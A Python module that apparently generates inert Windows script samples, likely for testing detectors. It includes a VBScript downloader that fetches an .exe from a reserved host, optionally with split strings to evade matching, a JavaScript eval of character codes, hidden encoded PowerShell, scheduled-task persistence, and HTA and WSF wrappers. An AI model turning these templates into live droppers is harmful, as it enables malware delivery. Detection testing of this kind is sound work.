"""scripts.py - scripts with chosen facts, in the languages of Windows.

They are inert: what they would start is `calc`, what they would fetch has a
reserved name, and none of them is whole enough to run.
"""

import base64


def vbs(url="http://a.example/b.exe", split=False):
    """Fetch, write, start."""
    shell = '"WScr" & "ipt.Sh" & "ell"' if split else '"WScript.Shell"'
    return (f"Set s = CreateObject({shell})\r\n"
            'Set x = CreateObject("MSXML2.XMLHTTP")\r\n'
            f'x.Open "GET", "{url}", False\r\n'
            'Set f = CreateObject("ADODB.Stream")\r\n'
            'f.SaveToFile "%temp%\\a.exe"\r\n').encode()


def js(numbers=(), code="calc"):
    """A text made of numbers that runs as code."""
    listed = ",".join(map(str, numbers or code.encode()))
    return (f"var a = [{listed}], b = '';\n"
            "for (var i = 0; i < a.length; i++)\n"
            "\tb += String.fromCharCode(a[i]);\neval(b);\n").encode()


def ps1(command="calc", hidden=True):
    """A command for the command line's option."""
    text = base64.b64encode(command.encode("utf-16-le")).decode()
    options = "-NoProfile -WindowStyle Hidden " if hidden else ""
    return f"powershell {options}-EncodedCommand {text}\r\n".encode()


def bat(steps=("schtasks /create /tn a /tr calc",)):
    return ("@echo off\r\n" + "\r\n".join(steps) + "\r\n").encode()


def hta(script="CreateObject(\"WScript.Shell\")"):
    return ("<html><head><hta:application id=a showInTaskbar=no></head><body>"
            f"<script language=\"VBScript\">{script}</script></body></html>"
            ).encode()


def wsf(script="x = 1"):
    return ("<job id=\"a\"><script language=\"VBScript\"><![CDATA["
            f"{script}]]></script></job>\r\n").encode()


def encoded(payload=b"AAAA"):
    """As the Script Encoder marks its work; the payload is not code."""
    return b"#@~^AAAAAA==" + payload + b"AAAAAA==^#~@\r\n"


def honest():
    """What an administrator's log-on script says."""
    return (b"' Map the drives of the department\r\n"
            b"Set network = CreateObject(\"WScript.Network\")\r\n"
            b"network.MapNetworkDrive \"S:\", \"\\\\server\\share\"\r\n"
            b"WScript.Echo \"Done.\"\r\n")
